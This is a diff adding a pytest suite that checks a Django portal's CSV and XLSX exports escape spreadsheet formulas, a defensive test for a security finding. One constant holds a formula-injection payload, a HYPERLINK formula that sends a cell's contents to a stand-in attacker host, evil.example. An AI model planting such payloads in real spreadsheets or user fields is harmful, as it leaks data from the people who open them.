@@ -1,0 +1,181 @@
+"""Every CSV and XLSX export escapes spreadsheet formulas (security finding F13).
+
+A value a user typed (an agency's name, a sector, a username) that starts with ``=``, ``+``,
+``-``, ``@``, a tab or a carriage return would run as a formula when the export is opened.
+These tests walk every URL pattern and every management command that produces CSV or XLSX,
+with such values planted, and read every cell back; a guard fails when a module writes CSV or
+XLSX without ``prevent_portal.core.exports``.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import date, timedelta
+from io import StringIO
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+from django.core.management import call_command, get_commands, load_command_class
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from channel_panel.models import ExitReason
+from prevent_portal.accounts.models import Role, Sector
+from prevent_portal.audit.access_log import log_access
+from prevent_portal.core.exports import FORMULA_STARTS, csv_text, safe_cell, xlsx_bytes
+from tests import factories
+from tests.conftest import sign_in
+from tests.permissions.urlwalk import all_routes
+from tests.training.helpers import make_return
+
+ROOT = Path(__file__).resolve().parents[2]
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+AT_FORMULA = "@SUM(1+1)"
+CSV_TYPES = ("text/csv",)
+XLSX_TYPES = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",)
+# The exports the walk must find: if it finds fewer, it is no longer walking them.
+KNOWN_DOWNLOADS = {
+    "referrals:statistics",
+    "channel_panel:report",
+    "audit:unusual_access",
+    "training:compliance",
+}
+KNOWN_COMMANDS = {"prevent_statistics", "channel_report", "training_compliance"}
+
+
+def _last_quarter_end(today: date) -> date:
+    first_of_quarter = date(today.year, 3 * ((today.month - 1) // 3) + 1, 1)
+    return first_of_quarter - timedelta(days=1)
+
+
+@pytest.fixture
+def planted(world):
+    """Formula text where each export takes text from users: an agency's name (training
+    returns, unusual-access owner), a sector (statistics), an exit reason (Channel report),
+    a username (unusual access)."""
+    evil_sector = Sector.objects.create(code="evil", name=FORMULA, order=99)
+    ExitReason.objects.create(code="evil", name=FORMULA, order=99)
+    evil = factories.AgencyFactory(name=FORMULA, short_code="evil", sector=evil_sector)
+    make_return(evil, _last_quarter_end(timezone.localdate()), 10, 5)
+    opener = factories.member(Role.PANEL_MEMBER, world.agency_a, username=AT_FORMULA)
+    request = SimpleNamespace(user=opener, META={"REMOTE_ADDR": "127.0.0.1"})
+    log_access(request, [factories.referral(evil)], view="test")
+    return world
+
+
+def cells_of(content: bytes, content_type: str) -> list[str]:
+    if content_type.startswith(CSV_TYPES):
+        text = content.decode("utf-8-sig")
+        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    workbook = load_workbook(io.BytesIO(content))
+    cells = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value}"
+                if isinstance(cell.value, str):
+                    cells.append(cell.value)
+    return cells
+
+
+def assert_no_formula(cells: list[str], where: str) -> None:
+    running = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
+    assert not running, f"{where}: cells that would run as formulas: {running}"
+
+
+def test_safe_cell_escapes_text_and_leaves_numbers_alone():
+    for start in FORMULA_STARTS:
+        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+    assert safe_cell("Agency A") == "Agency A"
+    assert safe_cell(-3) == -3
+    assert safe_cell(2.5) == 2.5
+    assert safe_cell(None) is None
+    assert csv_text(["n", "name"], [[-3, "=1+1"]]) == "n,name\n-3,'=1+1\n"
+
+
+def test_xlsx_keeps_numbers_and_dates_and_stores_formulas_as_text():
+    content = xlsx_bytes(["n", "day", "name"], [[-3, date(2026, 1, 2), FORMULA]], title="T")
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert sheet["A2"].value == -3
+    assert sheet["B2"].value.date() == date(2026, 1, 2)
+    assert sheet["C2"].value == "'" + FORMULA
+    assert sheet["C2"].data_type == "s"
+
+
+def test_every_download_escapes_planted_formulas(client, planted):
+    """Every URL pattern without parameters, asked for ``format=csv`` and ``format=xlsx`` by
+    the Coordinator (who may open every export); whatever comes back as CSV or XLSX is read
+    cell by cell."""
+    sign_in(client, planted.coordinator)
+    found = set()
+    for route in all_routes():
+        if route.params or route.key.startswith(("admin", "accounts:sign_out")):
+            continue
+        if "sign_out" in route.key or "logout" in route.key:
+            continue
+        for fmt in ("csv", "xlsx"):
+            response = client.get(route.path({}), {"format": fmt})
+            content_type = response.get("Content-Type", "")
+            if response.status_code != 200 or not content_type.startswith(CSV_TYPES + XLSX_TYPES):
+                continue
+            found.add(route.key)
+            cells = cells_of(response.content, content_type)
+            assert_no_formula(cells, f"{route.key} ({fmt})")
+            assert any(FORMULA in c or AT_FORMULA in c for c in cells), (
+                f"{route.key} ({fmt}) did not show the planted value: the walk proves nothing"
+            )
+    assert found >= KNOWN_DOWNLOADS
+
+
+def _csv_commands() -> list[str]:
+    names = []
+    for name, app in sorted(get_commands().items()):
+        try:
+            parser = load_command_class(app, name).create_parser("manage.py", name)
+        except Exception:  # noqa: S112 - a third-party command that will not build a parser
+            continue
+        for action in parser._actions:
+            if "--format" in action.option_strings and "csv" in (action.choices or []):
+                names.append(name)
+    return names
+
+
+def test_every_command_export_escapes_planted_formulas(planted):
+    names = _csv_commands()
+    assert set(names) >= KNOWN_COMMANDS
+    end = _last_quarter_end(timezone.localdate())
+    for name in names:
+        out = StringIO()
+        args = ["--format", "csv"]
+        if name != "training_compliance":  # the figures commands need a period
+            args += [
+                "--from",
+                (end - timedelta(days=200)).isoformat(),
+                "--to",
+                str(timezone.localdate()),
+            ]
+        call_command(name, *args, stdout=out)
+        cells = cells_of(out.getvalue().encode(), "text/csv")
+        assert_no_formula(cells, name)
+        assert any(FORMULA in c for c in cells), f"{name} did not show the planted value"
+
+
+WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|DictWriter\(|Workbook\(|xlsxwriter")
+
+
+def test_no_module_writes_csv_or_xlsx_outside_the_export_helper():
+    """One helper escapes formulas; a second way to write a spreadsheet would not."""
+    offenders = []
+    for folder in ("prevent_portal", "referrals", "training", "channel_panel", "governance"):
+        for path in (ROOT / folder).rglob("*.py"):
+            if (
+                path == ROOT / "prevent_portal" / "core" / "exports.py"
+                or "migrations" in path.parts
+            ):
+                continue
+            if WRITERS.search(path.read_text()):
+                offenders.append(str(path.relative_to(ROOT)))
+    assert offenders == []
